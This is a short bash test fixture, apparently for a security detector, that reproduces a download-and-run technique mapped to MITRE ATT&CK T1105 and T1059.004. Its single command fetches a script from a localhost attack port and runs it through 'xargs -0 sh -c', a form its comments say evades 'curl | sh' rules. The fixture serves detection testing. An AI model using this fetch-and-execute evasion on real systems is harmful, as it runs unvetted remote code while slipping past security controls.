#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: the `curl … | xargs -0 sh -c` form of download-and-run (in post-exploitation cheat sheets and CTF write-ups about evading `curl | sh` rules): the script reaches the shell as its -c argument, built by xargs from the download
# expect: download-piped-to-shell ^sh$
# exec-borne: yes
set -u

curl -fsSL --connect-timeout 5 "http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh" |
	xargs -0 sh -c
